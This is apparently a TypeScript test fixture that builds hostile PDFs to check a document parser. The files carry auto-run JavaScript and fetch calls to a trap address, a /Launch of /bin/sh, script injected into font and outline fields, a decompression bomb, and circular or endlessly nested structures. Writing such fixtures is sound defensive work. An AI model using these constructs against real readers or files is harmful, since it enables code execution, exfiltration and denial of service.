import { deflateSync } from 'node:zlib'
import { onePage, pdf, stream } from './hostile-documents'
import { CRAMMED, type HostileFile, text, refused, RUN } from './hostile-file'

export const pdfs = (trap: string): HostileFile[] => [
  text(
    'actions.pdf',
    'scripts, programs and addresses when it is opened',
    onePage(
      'Words of actions.',
      {
        catalog: `/OpenAction 5 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 5 0 R] >> >>`,
        page: `/AA << /O 6 0 R >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A 7 0 R >>]`,
      },
      `<< /S /JavaScript /JS (app.alert\\(1\\); ${RUN}; app.launchURL\\('${trap}/js'\\)) >>`,
      '<< /S /Launch /F (/bin/sh) >>',
      `<< /S /URI /URI (javascript:${RUN}) /Next << /S /SubmitForm /F (${trap}/form) >> >>`,
    ),
  ),
  text(
    'letters.pdf',
    'a program in the matrix of a typeface',
    onePage(
      'Words of letters.',
      { resources: '/Font << /F 5 0 R >>' },
      `<< /Type /Font /Subtype /Type1 /BaseFont /Odd /FontDescriptor << /Type /FontDescriptor /FontName /Odd /Flags 4 /FontBBox [0 0 1 1] >> /FontMatrix [1 2 3 4 5 (0\\); ${RUN}; fetch\\('${trap}/font'\\)//)] >>`,
    ),
  ),
  refused(
    'circle.pdf',
    'pages that hold each other',
    pdf(
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 2 >>',
      '<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 2 >>',
    ),
  ),
  refused(
    'endless.pdf',
    'a thousand million pages',
    pdf(
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 999999999 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
    ),
  ),
  refused('deep.pdf', 'lists in lists in lists', pdf(`<< /Type /Catalog /Pages ${'['.repeat(100_000)} >>`)),
  text(
    'mirror.pdf',
    'a drawing that draws itself',
    onePage(
      'Words of a mirror.',
      {
        resources:
          '/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> /XObject << /X 5 0 R >>',
        page: '/Contents [4 0 R 6 0 R]',
      },
      stream(
        '/X Do /X Do',
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>',
      ),
      stream('/X Do'),
    ),
  ),
  text(
    'outline.pdf',
    'an outline that goes round',
    onePage(
      'Words of an outline.',
      { catalog: '/Outlines 5 0 R' },
      '<< /Type /Outlines /First 6 0 R /Last 6 0 R >>',
      `<< /Title (<script>${RUN}</script>) /Parent 5 0 R /Next 6 0 R /First 6 0 R /Dest [3 0 R /Fit] >>`,
    ),
  ),
  text(
    'crammed.pdf',
    'a hundred megabytes of nothing on a page',
    onePage(
      'Words of a crammed page.',
      { page: '/Contents [4 0 R 5 0 R]' },
      stream(deflateSync(CRAMMED), '/Filter /FlateDecode'),
    ),
  ),
  refused('cut.pdf', 'a PDF cut short', onePage('Cut.').slice(0, 60)),
  refused(
    'before.pdf',
    'tables that send each other round',
    Buffer.from(
      '%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Prev 9 /Size 1 >>\nstartxref\n9\n%%EOF',
    ),
  ),
]
